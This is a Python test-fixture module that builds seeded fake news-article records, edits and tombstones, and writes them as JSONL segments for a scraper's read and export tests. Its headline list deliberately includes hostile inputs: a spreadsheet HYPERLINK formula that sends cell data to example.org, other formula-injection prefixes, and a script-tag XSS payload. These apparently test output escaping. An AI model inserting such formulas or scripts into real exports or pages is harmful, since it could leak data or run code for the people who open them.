"""Seeded records and segments for the tests of reading and exporting."""

from __future__ import annotations

import random
from collections.abc import Iterable, Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

from almayadeen.items import Article, Block, Image, Link, Video
from almayadeen.journal.files.segment import to_line

BEIRUT = ZoneInfo("Asia/Beirut")
NOW = datetime(2025, 11, 20, 12, tzinfo=UTC)
HOME = "https://english.almayadeen.net"
SECTIONS = ["Politics", "Economy", "Sports", "Arts&Culture", "Health", "Opinion"]
KINDS = ["news", "news", "news", "opinion", "analysis", "video", "feature"]
WORDS = [
    *("river", "harbour", "council", "bridge", "festival", "market", "season", "library"),
    *("garden", "teacher", "museum", "railway", "orchard", "weather", "station", "ferry"),
]
# Headlines as nobody wishes them: formulas, markup, quotes, other scripts, line separators.
HEADLINES = [
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "+1 for the harbour, -1 for the ferry",
    "-2 degrees in the orchard",
    "@festival opens",
    "\tTabbed headline",
    "＝1+1 in full width",
    "'Unprecedented' season",
    'She said: "a, b; c"',
    "<script>alert('x')</script> & friends",
    "بيروت: افتتاح المعرض",
    "Café naïveté 🌊 and a line\u2028separator",
]


class Builder:
    """Makes articles, later versions of them and tombstones; the same for the same seed."""

    def __init__(self, seed: int = 1) -> None:
        self._random = random.Random(seed)
        self._made = 0

    def article(self, **fields: object) -> Article:
        """Give a new article; ``fields`` override what chance gave."""
        number = self._made
        self._made += 1
        published = NOW - timedelta(minutes=97 * number)
        body = self._blocks()
        text = "\n\n".join(block.text or "" for block in body if block.type != "image")
        url = f"{HOME}/news/politics/item-{number}"
        picture = Image(url=f"{HOME}/image/{number}.jpg", caption="A harbour.", credit="AP")
        made: dict[str, object] = {
            "id": str(1_660_000 + number) if number % 5 else f"url:{number:040x}",
            "version": 1,
            "content_hash": f"{number:064x}",
            "kind": KINDS[number % len(KINDS)],
            "url": url,
            "canonical_url": url,
            "headline": self._headline(number),
            "description": self._sentence(18),
            "article_body": text,
            "blocks": body,
            "authors": [["Al Mayadeen English"], ["Rana Khoury", "Omar Said"], []][number % 3],
            "sources": ["Agencies"],
            "date_published": self._printed(number, published),
            "date_modified": published.astimezone(BEIRUT),
            "section": SECTIONS[number % len(SECTIONS)],
            "breadcrumbs": ["News", SECTIONS[number % len(SECTIONS)]],
            "region": ["MENA", None, "Europe"][number % 3],
            "coverage": ["The ferry line"] if number % 4 == 0 else [],
            "keywords": sorted(set(self._random.sample(WORDS, 4))),
            "in_language": "en",
            "word_count": len(text.split()),
            "reading_minutes": 2,
            "main_image": picture,
            "images": [picture],
            "videos": [Video(url=None, duration=75)] if number % 7 == 5 else [],
            "read_next": [Link(url=f"{HOME}/news/politics/item-{number + 1}", headline="Next")],
            "provenance": {"headline": "tawsiyat", "article_body": "layout"},
            "fetched_at": NOW,
            "run_id": "20251120T120000Z-sections-00aa",
        }
        return Article.model_validate(made | fields)

    def edited(self, article: Article) -> Article:
        """Give the next version: another headline and one word more in the body."""
        body = f"{article.article_body or ''} updated"
        return article.model_copy(
            update={
                "version": article.version + 1,
                "headline": f"{article.headline} (updated)",
                "article_body": body,
                "word_count": len(body.split()),
                "changed_fields": ["headline", "article_body"],
                "date_modified": NOW,
            }
        )

    @staticmethod
    def gone(article: Article) -> Article:
        """Give the tombstone of an article."""
        return Article(
            id=article.id,
            version=article.version + 1,
            kind=article.kind,
            url=article.url,
            canonical_url=article.canonical_url,
            headline=article.headline,
            gone_at=NOW,
        )

    def _blocks(self) -> list[Block]:
        texts = [self._sentence(60) for _ in range(self._random.randint(3, 8))]
        return [Block(type="paragraph", text=text) for text in texts]

    def _sentence(self, words: int) -> str:
        return " ".join(self._random.choices(WORDS, k=words)).capitalize() + "."

    def _headline(self, number: int) -> str:
        if number < len(HEADLINES):
            return HEADLINES[number]
        return f"{self._sentence(7)[:-1]} {number}"

    @staticmethod
    def _printed(number: int, published: datetime) -> datetime | date | None:
        if number % 11 == 3:
            return published.date()
        return None if number % 11 == 7 else published.astimezone(BEIRUT)


def history(count: int, seed: int = 1) -> Iterator[Article]:
    """Give ``count`` articles; every tenth is edited, some twice, some vanish."""
    builder = Builder(seed)
    for number in range(count):
        article = builder.article()
        yield article
        if number % 10 == 0:
            article = builder.edited(article)
            yield article
        if number % 30 == 0:
            yield builder.edited(article)
        if number % 25 == 4:
            yield builder.gone(article)


def write_segment(path: Path, records: Iterable[Article]) -> Path:
    """Write records as a sealed segment, in the form in which the journal writes."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as file:
        file.writelines(to_line(record.model_dump()) for record in records)
    return path


def write_output(folder: Path, records: Iterable[Article], per_segment: int = 100) -> Path:
    """Write records as the segments of one run in an output folder, and give the folder."""
    waiting: list[Article] = []
    number = 0
    (folder / "articles").mkdir(parents=True, exist_ok=True)
    for record in records:
        waiting.append(record)
        if len(waiting) == per_segment:
            number += 1
            write_segment(segment_path(folder, number), waiting)
            waiting = []
    if waiting:
        write_segment(segment_path(folder, number + 1), waiting)
    return folder


def segment_path(folder: Path, number: int, run: str = "20251120T120000Z-sections-00aa") -> Path:
    """Give the path of a run's segment."""
    return folder / "articles" / f"{run}-{number}.jsonl"
